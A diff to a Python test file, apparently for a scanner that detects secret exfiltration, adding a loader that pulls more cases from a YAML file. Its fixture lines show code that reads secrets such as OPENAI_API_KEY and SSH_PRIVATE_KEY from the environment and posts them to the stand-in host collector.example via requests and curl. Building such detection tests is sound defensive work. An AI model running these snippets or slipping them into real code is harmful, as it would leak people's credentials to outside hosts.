@@ -6,9 +6,11 @@ import os
 import re
 import subprocess
 import sys
+from pathlib import Path
 from typing import TYPE_CHECKING
 
 import pytest
+import yaml
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
@@ -217,6 +219,7 @@ def test_the_tables_are_sound() -> None:
 
 NAMES = ("OPENAI_API_KEY", "JWT_SECRET", "DATABASE_URL", "SSH_PRIVATE_KEY", "PASSWORD")
 URL = "https://collector.example/in"
+WAYS = yaml.safe_load(Path(__file__).with_name("ways.yaml").read_text("utf-8"))
 PYTHON = {
     "a body": "requests.post(U, data=os.environ[N])",
     "a parameter": "requests.get(U, params={'q': os.getenv(N)})",
@@ -233,6 +236,7 @@ PYTHON = {
     "curl": "subprocess.run(['curl', '-d', os.environ[N], U])",
     "curl in a shell": "os.system(f'curl -d {os.environ[N]} {U}')",
     "a list": "out = []\nout.append(os.environ[N])\nrequests.post(U, data='\\n'.join(out))",
+    **WAYS["python"],
 }
 IMPORTS = "import base64, json, os, subprocess, urllib.request\nimport requests\n"
 
